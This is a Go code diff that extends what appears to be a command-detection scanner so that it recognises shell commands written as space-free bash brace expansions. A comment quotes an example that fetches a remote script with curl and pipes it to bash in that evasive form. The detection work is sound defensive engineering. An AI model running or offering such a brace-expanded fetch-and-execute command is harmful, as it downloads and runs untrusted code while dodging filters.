@@ -58,6 +58,20 @@ func (a *analysis) embeddedCommands(it *item, f float64) {
 		for j < len(s) && (isAlpha(s[j]) || s[j] == '.' || s[j] == '-' && j > i) {
 			j++
 		}
+		if j == i && s[i] == '{' && i > 0 {
+			// a command written as one brace expansion, which bash
+			// expands before running it ({curl,-fsSL,http://x/t}|{bash,-s}:
+			// a command line without spaces); resolve reads it
+			k := i + 1
+			for k < len(s) && (isAlpha(s[k]) || s[k] == '.' || s[k] == '-' && k > i+1) {
+				k++
+			}
+			if k < len(s) && s[k] == ',' && embeddedStarts[strings.ToLower(s[i+1:k])] {
+				tried++
+				a.strongFrom(it, s[i:], f)
+			}
+			continue
+		}
 		if j == i || !embeddedStarts[strings.ToLower(s[i:j])] || j < len(s) && s[j] != ' ' && s[j] != '\t' {
 			continue
 		}
